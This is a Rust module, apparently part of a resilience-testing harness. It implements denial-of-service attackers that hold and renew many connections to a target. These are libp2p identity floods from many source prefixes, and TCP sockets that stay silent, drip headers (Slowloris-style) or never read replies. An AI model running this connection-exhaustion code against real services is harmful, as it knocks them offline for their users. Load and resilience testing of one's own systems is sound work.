//! Attackers that hold many connections and renew them: identities of libp2p, or sockets that say nothing,
//! drip a request's headers, or ask and don't read.

use std::collections::VecDeque;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use futures::StreamExt;
use libp2p::Multiaddr;
use libp2p::swarm::SwarmEvent;
use parking_lot::Mutex;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinHandle;
use tokio::time::{MissedTickBehavior, interval, sleep};

use super::dial;
use super::ground::in_prefix;
use crate::raw::Plain;
use crate::{Result, line};

/// The receive buffer of who doesn't read.
const SMALL_BUFFER: u32 = 4_096;
/// The time after which who doesn't read asks anew.
const ASKS_AGAIN: Duration = Duration::from_secs(20);
const DRIP: Duration = Duration::from_secs(1);

/// The number of connections (in a flood, of pieces of work) an attacker made, of connections that ended, and
/// why the last one did, where that is known.
#[derive(Debug, Default)]
pub struct Counts {
    made: AtomicU64,
    ended: AtomicU64,
    why: Mutex<String>,
}

impl Counts {
    pub fn made(&self) {
        self.made.fetch_add(1, Ordering::Relaxed);
    }

    pub fn ended(&self) {
        self.ended.fetch_add(1, Ordering::Relaxed);
    }

    pub fn ended_by(&self, why: impl ToString) {
        self.ended();
        *self.why.lock() = why.to_string();
    }

    pub fn told(&self) -> Value {
        let number = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        json!({ "made": number(&self.made), "ended": number(&self.ended), "why": *self.why.lock() })
    }
}

/// The number of connections to hold, and how fast they come.
struct Plan {
    hold: usize,
    /// New ones in a second until so many were made, and after that.
    first_per_s: u64,
    then_per_s: u64,
    /// A new one replaces the oldest; else only one that has ended.
    renews: bool,
}

impl Plan {
    fn read(options: &Value) -> Result<Plan> {
        Ok(Plan {
            hold: line::number(options, "hold")? as usize,
            first_per_s: line::number(options, "first_per_s")?,
            then_per_s: line::number(options, "then_per_s")?,
            renews: options["renews"] == true,
        })
    }

    /// Begins tasks by this plan, for good.
    async fn follow<F>(self, mut begin: impl FnMut(u32) -> F) -> Result<()>
    where
        F: Future<Output = Result<()>> + Send + 'static,
    {
        let mut held = VecDeque::<JoinHandle<()>>::new();
        let pace = |per_s: u64| {
            let mut pace = interval(Duration::from_secs(1) / per_s as u32);
            pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
            pace
        };
        let (mut first, mut then) = (pace(self.first_per_s), pace(self.then_per_s));
        for n in 0.. {
            let ramping = (n as usize) < self.hold;
            if ramping {
                first.tick().await
            } else {
                then.tick().await
            };
            held.retain(|task| !task.is_finished());
            while held.len() >= self.hold && !self.renews {
                then.tick().await;
                held.retain(|task| !task.is_finished());
            }
            if held.len() >= self.hold
                && let Some(oldest) = held.pop_front()
            {
                oldest.abort();
            }
            let task = begin(n);
            held.push_back(tokio::spawn(async move { drop(task.await) }));
        }
        Ok(())
    }
}

/// Attacks with identities, each in a swarm of its own that speaks identify and ping, from so many prefixes.
pub async fn crowd(options: Value, counts: Arc<Counts>) -> Result<()> {
    let target: Multiaddr = line::text(&options, "target")?.parse()?;
    let source: Ipv4Addr = line::text(&options, "source")?.parse()?;
    let prefixes = line::number(&options, "prefixes")? as u32;
    let plan = Plan::read(&options)?;
    let begin = |n| identity(in_prefix(source, n % prefixes), target.clone(), Arc::clone(&counts));
    plan.follow(begin).await
}

async fn identity(source: Ipv4Addr, target: Multiaddr, counts: Arc<Counts>) -> Result<()> {
    let mut swarm = dial::swarm::<Plain>(source)?;
    swarm.dial(target)?;
    loop {
        match swarm.select_next_some().await {
            SwarmEvent::ConnectionEstablished { .. } => counts.made(),
            SwarmEvent::OutgoingConnectionError { .. } | SwarmEvent::ConnectionClosed { .. } => {
                counts.ended();
                return Ok(());
            }
            _ => {}
        }
    }
}

/// The manner of a socket.
#[derive(Clone, Copy)]
enum Manner {
    Silent,
    Drips,
    DoesNotRead,
}

/// Attacks with sockets. With `request` it is sent whole, and the reply isn't read; with `drips` a part of
/// one is, and then a byte in a second.
pub async fn sockets(options: Value, counts: Arc<Counts>) -> Result<()> {
    let target: SocketAddr = line::text(&options, "target")?.parse()?;
    let source: Ipv4Addr = line::text(&options, "source")?.parse()?;
    let request: Arc<str> = options["request"].as_str().unwrap_or_default().into();
    let manner = match options["manner"].as_str() {
        Some("drips") => Manner::Drips,
        Some("doesn't read") => Manner::DoesNotRead,
        _ => Manner::Silent,
    };
    let plan = Plan::read(&options)?;
    let begin = |_| socket(source, target, Arc::clone(&request), manner, Arc::clone(&counts));
    plan.follow(begin).await
}

async fn socket(
    source: Ipv4Addr,
    target: SocketAddr,
    request: Arc<str>,
    manner: Manner,
    counts: Arc<Counts>,
) -> Result<()> {
    let buffer = matches!(manner, Manner::DoesNotRead).then_some(SMALL_BUFFER);
    let mut stream = dial::connect(source, target, buffer).await?;
    counts.made();
    stream.write_all(request.as_bytes()).await?;
    match manner {
        Manner::Silent => until_closed(&mut stream).await,
        Manner::Drips => drip(stream).await,
        Manner::DoesNotRead => ignore(&stream).await,
    }
    counts.ended();
    Ok(())
}

async fn until_closed(stream: &mut TcpStream) {
    let mut buffer = [0; 512];
    while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
}

async fn drip(stream: TcpStream) {
    let (mut reader, mut writer) = stream.into_split();
    let dripping = async move {
        while writer.write_all(b"x").await.is_ok() {
            sleep(DRIP).await;
        }
    };
    let mut buffer = [0; 512];
    let closed = async move { while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {} };
    tokio::select! {
        () = dripping => {}
        () = closed => {}
    }
}

/// Holds a connection until it is reset, or long enough.
async fn ignore(stream: &TcpStream) {
    let begun = Instant::now();
    while begun.elapsed() < ASKS_AGAIN && matches!(stream.take_error(), Ok(None)) {
        sleep(Duration::from_millis(200)).await;
    }
}
